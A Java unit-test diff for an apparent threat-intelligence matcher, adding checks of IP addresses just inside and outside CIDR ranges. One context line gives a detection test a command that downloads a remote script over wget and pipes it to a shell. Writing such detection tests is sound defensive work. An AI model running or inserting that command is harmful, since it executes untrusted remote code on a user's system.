@@ -55,6 +55,29 @@ class IntelMatcherTest {
   }
 
   @Test
+  void ip_networksWiderAndNarrowerThanASixteen_andAddressesJustOutside() {
+    IntelStore s = IntelStore.builder()
+        .add(ind(IndicatorType.CIDR, "100.64.0.0/10", "W"))
+        .add(ind(IndicatorType.CIDR, "198.51.100.0/24", "N"))
+        .add(ind(IndicatorType.IP, "255.255.255.254", "E"))
+        .add(ind(IndicatorType.CIDR, "10.1.2.3/15", "H")) // host bits set: 10.0.0.0/15
+        .build();
+    IntelMatcher x = s.matcher(Ageing.never());
+    assertThat(x.ip("100.64.0.1")).extracting(Indicator::actor).containsExactly("W");
+    assertThat(x.ip("100.127.255.255")).extracting(Indicator::actor).containsExactly("W");
+    assertThat(x.ip("100.128.0.0")).isEmpty();
+    assertThat(x.ip("100.63.255.255")).isEmpty();
+    assertThat(x.ip("198.51.100.9")).extracting(Indicator::actor).containsExactly("N");
+    assertThat(x.ip("198.51.101.9")).isEmpty();
+    assertThat(x.ip("198.50.100.9")).isEmpty();
+    assertThat(x.ip("255.255.255.254")).extracting(Indicator::actor).containsExactly("E");
+    assertThat(x.ip("255.255.255.253")).isEmpty();
+    assertThat(x.ip("10.1.200.1")).extracting(Indicator::actor).containsExactly("H");
+    assertThat(x.ip("10.2.0.1")).isEmpty();
+    assertThat(x.ip("0.0.0.0")).isEmpty();
+  }
+
+  @Test
   void scanText_findsArtefactsWithBoundaries() {
     List<String> hits = new ArrayList<>();
     m.scanText("wget -q -O - http://195.3.146.118/d.sh | sh", i -> hits.add(i.label() + "@" + i.actor()));
